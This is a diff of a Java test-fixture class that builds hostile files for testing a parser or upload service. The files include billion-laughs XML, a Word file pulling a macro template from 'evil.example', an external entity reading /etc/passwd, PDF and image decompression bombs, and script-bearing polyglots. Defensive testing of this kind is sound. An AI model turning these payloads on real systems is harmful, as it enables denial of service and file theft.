@@ -12,6 +12,8 @@ import java.util.Arrays;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 import java.util.zip.Adler32;
 import java.util.zip.CRC32;
 import java.util.zip.Deflater;
@@ -19,15 +21,17 @@ import java.util.zip.DeflaterOutputStream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import org.itacycle.support.SmallPdf;
+import org.itacycle.support.SmallPicture;
 import org.itacycle.support.SmallWord;
 
 /** Files that are made to harm whoever opens them; none is larger than a few megabytes. */
 public final class BadFiles {
 
     private static final int MEGABYTE = 1024 * 1024;
+    private static final Pattern OBJECT = Pattern.compile("(?m)^(\\d+) 0 obj");
 
     /** Ten entities, each ten times the one before: a thousand million times "lol". */
-    private static final String LAUGHS = laughs();
+    private static final String LAUGHS = laughs(10);
 
     private BadFiles() {}
 
@@ -99,11 +103,16 @@ public final class BadFiles {
 
     /** A Word file that loads its template, macros included, from a stranger. */
     public static byte[] wordWithRemoteTemplate() {
+        return wordWithTemplate("http://evil.example/t.dotm");
+    }
+
+    /** A Word file with this template. */
+    public static byte[] wordWithTemplate(String address) {
         return replaced(
                 "word/_rels/settings.xml.rels",
                 "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                         + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
-                        + "relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
+                        + "relationships/attachedTemplate\" Target=\"" + address + "\""
                         + " TargetMode=\"External\"/></Relationships>");
     }
 
@@ -305,6 +314,25 @@ public final class BadFiles {
                 "/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R");
     }
 
+    /** A page whose content went through this filter. */
+    public static byte[] pdfWithFilter(String filter, byte[] packed) {
+        return withStream(
+                "4 0 obj << /Filter " + filter + " /Length " + packed.length + " >> stream\n",
+                packed,
+                "/Contents 4 0 R");
+    }
+
+    /** So many megabytes of one letter, packed as PDF packs repetitions: two bytes for each 128. */
+    public static byte[] runs(int megabytes) {
+        byte[] packed = new byte[megabytes * MEGABYTE / 64 + 1];
+        for (int i = 0; i < packed.length - 1; i += 2) {
+            packed[i] = (byte) 129;
+            packed[i + 1] = ' ';
+        }
+        packed[packed.length - 1] = (byte) 128;
+        return packed;
+    }
+
     /** A page as large as a field. */
     public static byte[] pdfOfAField() {
         return pdfOf("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
@@ -323,26 +351,7 @@ public final class BadFiles {
 
     /** A PNG that says it is so wide and high; its pixels are missing. */
     public static byte[] png(int width, int height) {
-        ByteArrayOutputStream out = new ByteArrayOutputStream();
-        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
-        ByteBuffer header = ByteBuffer.allocate(13)
-                .putInt(width)
-                .putInt(height)
-                .put((byte) 1)
-                .put(new byte[4]);
-        out.writeBytes(chunk("IHDR", header.array()));
-        out.writeBytes(chunk("IDAT", deflated(new byte[64])));
-        out.writeBytes(chunk("IEND", new byte[0]));
-        return out.toByteArray();
-    }
-
-    /** A JPEG that says it is so wide and high; its pixels are missing. */
-    public static byte[] jpeg(int width, int height) {
-        ByteArrayOutputStream out = new ByteArrayOutputStream();
-        out.writeBytes(bytes(0xFF, 0xD8, 0xFF, 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0));
-        out.writeBytes(bytes(0xFF, 0xC0, 0, 11, 8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0));
-        out.writeBytes(bytes(0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0, 0, 0xFF, 0xD9));
-        return out.toByteArray();
+        return SmallPicture.png(width, height, deflated(new byte[64]));
     }
 
     /** A drawing that runs scripts and wants files. */
@@ -359,9 +368,9 @@ public final class BadFiles {
         byte[] page = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
         Map<String, byte[]> files = new LinkedHashMap<>();
         files.put("PDF and ZIP", joined(SmallPdf.of("x"), anyZip()));
-        files.put("PNG and ZIP", joined(png(8, 8), anyZip()));
-        files.put("PNG and page", joined(png(8, 8), page));
-        files.put("JPEG and ZIP", joined(jpeg(8, 8), anyZip()));
+        files.put("PNG and ZIP", joined(SmallPicture.png(8, 8), anyZip()));
+        files.put("PNG and page", joined(SmallPicture.png(8, 8), page));
+        files.put("JPEG and ZIP", joined(SmallPicture.jpeg(8, 8), anyZip()));
         files.put("page and PDF", joined(page, SmallPdf.of("x")));
         files.put("GIF and script", "GIF89a/*\u0000\u0000*/=alert(1)//".getBytes(StandardCharsets.ISO_8859_1));
         files.put("program and PDF", joined("MZ\u0000\u0000".getBytes(StandardCharsets.US_ASCII), SmallPdf.of("x")));
@@ -380,8 +389,8 @@ public final class BadFiles {
         files.put("ZIP", anyZip());
         files.put("half a PDF", cut(SmallPdf.of("x"), 0.6));
         files.put("half a Word file", cut(SmallWord.of("x"), 0.6));
-        files.put("half a PNG", cut(png(8, 8), 0.6));
-        files.put("half a JPEG", cut(jpeg(8, 8), 0.8));
+        files.put("half a PNG", cut(SmallPicture.png(8, 8), 0.6));
+        files.put("half a JPEG", cut(SmallPicture.jpeg(8, 8), 0.8));
         files.put("Word of 40 MB", wordOfMegabytes(40));
         files.put("Word that laughs", wordThatLaughs());
         files.put("Word with a file", wordWithEntity("file:///etc/passwd"));
@@ -402,14 +411,15 @@ public final class BadFiles {
         files.put("PDF that swells twice", twiceSwellingPdf(1500));
         files.put("PDF of swelling objects", pdfOfSwellingObjects(300));
         files.put("PNG of 10,000 million pixels", png(100_000, 100_000));
-        files.put("JPEG of 4,000 million pixels", jpeg(65_535, 65_535));
+        files.put("JPEG of 4,000 million pixels", SmallPicture.jpeg(65_535, 65_535));
         files.putAll(polyglots());
         return files;
     }
 
-    private static String laughs() {
+    /** Entities made of entities, so many levels of them. */
+    static String laughs(int levels) {
         StringBuilder text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY l0 \"lol\">");
-        for (int level = 1; level < 10; level++) {
+        for (int level = 1; level < levels; level++) {
             text.append("<!ENTITY l%d \"%s\">".formatted(level, ("&l" + (level - 1) + ";").repeat(10)));
         }
         return text.append("]>").toString();
@@ -587,19 +597,19 @@ public final class BadFiles {
         return joined(joined(head, content), tail);
     }
 
-    /** Without a table of its objects: every reader of PDF finds them all the same. */
+    /** With the table of its objects, so that no reader mends anything. */
     private static byte[] pdfOf(String objects) {
-        return ("%PDF-1.7\n" + objects + "trailer << /Root 1 0 R /Size 100 >>\nstartxref\n0\n%%EOF\n")
+        String head = "%PDF-1.7\n" + objects;
+        StringBuilder table = new StringBuilder("xref\n0 1\n0000000000 65535 f \n");
+        Matcher object = OBJECT.matcher(head);
+        int last = 0;
+        while (object.find()) {
+            last = Math.max(last, Integer.parseInt(object.group(1)));
+            table.append("%s 1\n%010d 00000 n \n".formatted(object.group(1), object.start(1)));
+        }
+        return (head + table + "trailer << /Root 1 0 R /Size " + (last + 1) + " >>\nstartxref\n" + head.length()
+                        + "\n%%EOF\n")
                 .getBytes(StandardCharsets.ISO_8859_1);
-    }
-
-    private static byte[] chunk(String type, byte[] content) {
-        byte[] typed = joined(type.getBytes(StandardCharsets.US_ASCII), content);
-        return ByteBuffer.allocate(content.length + 12)
-                .putInt(content.length)
-                .put(typed)
-                .putInt((int) crc(typed))
-                .array();
     }
 
     private static byte[] bytes(int... values) {
